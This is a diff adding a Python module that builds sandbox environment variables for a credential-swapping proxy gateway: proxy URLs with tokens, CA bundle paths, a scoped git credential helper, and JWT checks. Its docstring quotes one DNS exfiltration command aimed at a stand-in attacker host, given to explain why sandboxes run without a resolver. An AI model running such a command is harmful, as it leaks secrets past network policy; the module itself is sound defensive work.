@@ -1,0 +1,208 @@
+"""The environment a sandbox needs: proxy URL with its token, CA bundle, API-key vars.
+
+The `*_API_KEY` variables hold the gateway token, never a key: SDKs put it in their
+usual header and the gateway swaps it for the real key on the way out. The same goes
+for credentials the gateway mints: `GH_TOKEN`/`GITHUB_TOKEN` (gh, GitHub API clients),
+a git credential helper for the GitHub hosts that answers the token as the password
+(set through `GIT_CONFIG_*` variables, no file, no GIT_ASKPASS), AWS placeholder keys
+with the token as `AWS_SESSION_TOKEN` (the gateway re-signs with real keys), and
+`CLOUDSDK_AUTH_ACCESS_TOKEN` (gcloud) for Google.
+
+Beyond the proxy and CA variables every HTTP stack reads, some tools need their own:
+gRPC ignores `SSL_CERT_FILE` (`GRPC_DEFAULT_SSL_ROOTS_FILE_PATH`), an npmrc `cafile`
+overrides `NODE_EXTRA_CA_CERTS` (`NPM_CONFIG_CAFILE`), git sends no proxy credentials
+on its first CONNECT unless told to (`GIT_HTTP_PROXY_AUTHMETHOD=basic`), and Node's
+`fetch` ignores proxy variables (Node 24 and recent 22.x honour `NODE_USE_ENV_PROXY=1`), so a
+preload shipped with this package (`NODE_OPTIONS=--import=…`) installs a proxying
+dispatcher. aiohttp reads the proxy variables only with `trust_env=True`.
+
+A sandbox that uses the proxy needs no DNS resolver: the gateway resolves every name
+(after the policy allowed it). Giving it one opens a side channel around the policy
+(data in query names, `nslookup $(base32 < secret).attacker.example`), so `dns_note`
+tells the operator how to run without one.
+"""
+
+from __future__ import annotations
+
+import base64
+import binascii
+import ipaddress
+import json
+import re
+import time
+from importlib import resources
+from typing import Any
+from urllib.parse import quote, urlsplit, urlunsplit
+
+import yaml
+
+from gateway.services.identity.tokens import AUDIENCE, unverified_claims
+
+DEFAULT_CA_BUNDLE = "/etc/sandbox-gateway/ca-bundle.pem"
+DEFAULT_NODE_PRELOAD = "/etc/sandbox-gateway/node-proxy-preload.mjs"
+NODE_PRELOAD_NAME = "node-proxy-preload.mjs"
+FORMATS = ("dotenv", "shell", "k8s")
+
+CA_VARIABLES = (
+    "SSL_CERT_FILE",          # Python ssl, OpenSSL-based tools, httpx, aiohttp, uv
+    "REQUESTS_CA_BUNDLE",     # requests
+    "CURL_CA_BUNDLE",         # curl
+    "NODE_EXTRA_CA_CERTS",    # Node.js
+    "NPM_CONFIG_CAFILE",      # npm (an npmrc cafile would replace NODE_EXTRA_CA_CERTS)
+    "GIT_SSL_CAINFO",         # git
+    "AWS_CA_BUNDLE",          # AWS SDKs and CLI
+    "PIP_CERT",               # pip
+    "GRPC_DEFAULT_SSL_ROOTS_FILE_PATH",  # gRPC (ignores SSL_CERT_FILE)
+)
+API_KEY_VARIABLES = (
+    "OPENAI_API_KEY", "ANTHROPIC_API_KEY", "AZURE_OPENAI_API_KEY", "GEMINI_API_KEY",
+    "GOOGLE_API_KEY", "MISTRAL_API_KEY", "GROQ_API_KEY", "OPENROUTER_API_KEY", "HF_TOKEN",
+    "GH_TOKEN", "GITHUB_TOKEN", "AWS_SESSION_TOKEN", "CLOUDSDK_AUTH_ACCESS_TOKEN",
+)
+NO_PROXY = "localhost,127.0.0.1,::1"
+_JWT = re.compile(r"[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+")
+#: AWS SDKs sign with these; the gateway strips that signature and signs with real keys.
+AWS_PLACEHOLDERS = (("AWS_ACCESS_KEY_ID", "SANDBOXGATEWAYPLACEHOLDER"),
+                    ("AWS_SECRET_ACCESS_KEY", "sandbox-gateway-placeholder-not-a-key"))
+#: git asks this helper after a 401: the token (from $GH_TOKEN) as the Basic password.
+GIT_HELPER = ('!f() { test "$1" = get || return 0; echo username=x-access-token; '
+              'echo "password=$GH_TOKEN"; }; f')
+
+
+class InvalidToken(ValueError):
+    """The token given to `env` is not a usable gateway token."""
+
+
+def proxy_url(proxy: str, sandbox: str, token: str) -> str:
+    """`http://gateway:8080` -> `http://<sandbox>:<token>@gateway:8080`."""
+    parts = urlsplit(proxy if "://" in proxy else f"http://{proxy}")
+    netloc = f"{quote(sandbox, safe='')}:{quote(token, safe='')}@{parts.hostname}"
+    if ":" in (parts.hostname or ""):
+        netloc = f"{quote(sandbox, safe='')}:{quote(token, safe='')}@[{parts.hostname}]"
+    if parts.port:
+        netloc += f":{parts.port}"
+    return urlunsplit((parts.scheme or "http", netloc, "", "", ""))
+
+
+def dns_note(proxy: str) -> list[str]:
+    """Lines for the operator (not the env file): the sandbox needs no resolver, and how
+    to run it without one when the proxy address is a name."""
+    host = urlsplit(proxy if "://" in proxy else f"http://{proxy}").hostname or ""
+    lines = [
+        "# DNS: a sandbox using this proxy needs no resolver: the gateway resolves names",
+        "# after its policy allows them, and a resolver in the sandbox is a way around the",
+        "# policy (data leaves in query names). Run it without one: Kubernetes",
+        "# `dnsPolicy: None` + `dnsConfig: {nameservers: [127.0.0.1]}` (the pod's own",
+        "# loopback, where nothing answers: Kubernetes wants one nameserver), Docker",
+        "# `-v /dev/null:/etc/resolv.conf:ro`; in transparent mode, the gateway's own",
+        "# resolver (listen.dns) as the only nameserver.",
+    ]
+    try:
+        ipaddress.ip_address(host)
+    except ValueError:
+        lines.append(f"# The proxy address {host!r} is a name: without DNS the sandbox must find "
+                     "it in /etc/hosts (Kubernetes `hostAliases`, Docker `--add-host`), or use")
+        lines.append("# the gateway's IP address (its Service ClusterIP) in --proxy.")
+    return lines
+
+
+def _b64json(part: str, what: str) -> dict[str, Any]:
+    try:
+        value = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
+    except (ValueError, binascii.Error):
+        raise InvalidToken(f"its {what} is not base64url-encoded JSON") from None
+    if not isinstance(value, dict):
+        raise InvalidToken(f"its {what} is not a JSON object")
+    return value
+
+
+def check_token(token: str, now: float | None = None) -> dict[str, Any]:
+    """The claims of a structurally valid, unexpired gateway JWT (signature NOT checked:
+    see `TokenService.verify` for that); raises `InvalidToken` saying what is wrong."""
+    if not _JWT.fullmatch(token):
+        raise InvalidToken("it is not a JWT (three base64url parts separated by dots)")
+    parts = token.split(".")
+    header = _b64json(parts[0], "header")
+    claims = _b64json(parts[1], "payload")
+    if header.get("alg") != "EdDSA" or not isinstance(header.get("kid"), str):
+        raise InvalidToken(f"its header is not a gateway token's (alg {header.get('alg')!r}, "
+                           "expected EdDSA with a kid)")
+    missing = [c for c in ("sub", "pol", "exp", "jti") if c not in claims]
+    if missing:
+        raise InvalidToken(f"it lacks the claims {', '.join(missing)}")
+    if claims.get("aud") != AUDIENCE:
+        raise InvalidToken(f"its audience is {claims.get('aud')!r}, not {AUDIENCE!r}")
+    exp = claims["exp"]
+    if not isinstance(exp, int | float) or isinstance(exp, bool):
+        raise InvalidToken("its exp claim is not a number")
+    now = time.time() if now is None else now
+    if exp <= now:
+        when = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(exp))
+        raise InvalidToken(f"it expired at {when}")
+    return claims
+
+
+def git_config(hosts: tuple[str, ...] = ("github.com",)) -> list[tuple[str, str]]:
+    """`GIT_CONFIG_*` variables: the credential helper for each of `hosts` only (a helper
+    for every host would hand the token to any server that asks)."""
+    out = [("GIT_CONFIG_COUNT", str(len(hosts)))]
+    for i, host in enumerate(hosts):
+        out += [(f"GIT_CONFIG_KEY_{i}", f"credential.https://{host}.helper"),
+                (f"GIT_CONFIG_VALUE_{i}", GIT_HELPER)]
+    return out
+
+
+def sandbox_variables(token: str, proxy: str, sandbox: str | None = None,
+                      ca_bundle: str = DEFAULT_CA_BUNDLE,
+                      node_preload: str | None = DEFAULT_NODE_PRELOAD,
+                      git_hosts: tuple[str, ...] = ("github.com",)) -> list[tuple[str, str]]:
+    """The sandbox's variables, in output order. `node_preload`: the preload's path
+    inside the sandbox (None: no NODE_OPTIONS); `git_hosts`: hosts whose git credential
+    helper answers the token (empty: none)."""
+    sandbox = sandbox or str(unverified_claims(token).get("sub") or "sandbox")
+    url = proxy_url(proxy, sandbox, token)
+    out = [("HTTPS_PROXY", url), ("HTTP_PROXY", url), ("https_proxy", url),
+           ("http_proxy", url), ("NO_PROXY", NO_PROXY), ("no_proxy", NO_PROXY)]
+    out += [(var, ca_bundle) for var in CA_VARIABLES]
+    out += [("GIT_HTTP_PROXY_AUTHMETHOD", "basic"), ("NODE_USE_ENV_PROXY", "1")]
+    if node_preload:
+        quoted = f'"{node_preload}"' if any(c in node_preload for c in ' "\\') else node_preload
+        out.append(("NODE_OPTIONS", f"--import={quoted}"))
+    out += [(var, token) for var in API_KEY_VARIABLES]
+    out += list(AWS_PLACEHOLDERS)
+    if git_hosts:
+        out += git_config(git_hosts)
+    return out
+
+
+def sandbox_env(token: str, proxy: str, sandbox: str | None = None,
+                ca_bundle: str = DEFAULT_CA_BUNDLE,
+                node_preload: str | None = DEFAULT_NODE_PRELOAD,
+                git_hosts: tuple[str, ...] = ("github.com",)) -> list[str]:
+    """`KEY=value` lines for a sandbox (an env file for `docker run --env-file`)."""
+    return [f"{k}={v}" for k, v in sandbox_variables(token, proxy, sandbox, ca_bundle,
+                                                      node_preload, git_hosts)]
+
+
+def _shell_quote(value: str) -> str:
+    return "'" + value.replace("'", "'\\''") + "'"
+
+
+def render(variables: list[tuple[str, str]], fmt: str) -> str:
+    """The variables as a dotenv file (`K=v`, what `docker --env-file` reads literally),
+    shell (`export K='v'`) or a Kubernetes container `env:` list."""
+    if fmt == "dotenv":
+        if any("\n" in v for _, v in variables):
+            raise ValueError("a value with a newline cannot be written as dotenv")
+        return "".join(f"{k}={v}\n" for k, v in variables)
+    if fmt == "shell":
+        return "".join(f"export {k}={_shell_quote(v)}\n" for k, v in variables)
+    if fmt == "k8s":
+        doc = {"env": [{"name": k, "value": v} for k, v in variables]}
+        return yaml.safe_dump(doc, sort_keys=False, width=1 << 20)
+    raise ValueError(f"unknown format {fmt!r}; one of {', '.join(FORMATS)}")
+
+
+def node_preload_source() -> str:
+    """The Node preload shipped with this package."""
+    return (resources.files("gateway") / "sandbox" / NODE_PRELOAD_NAME).read_text("utf-8")
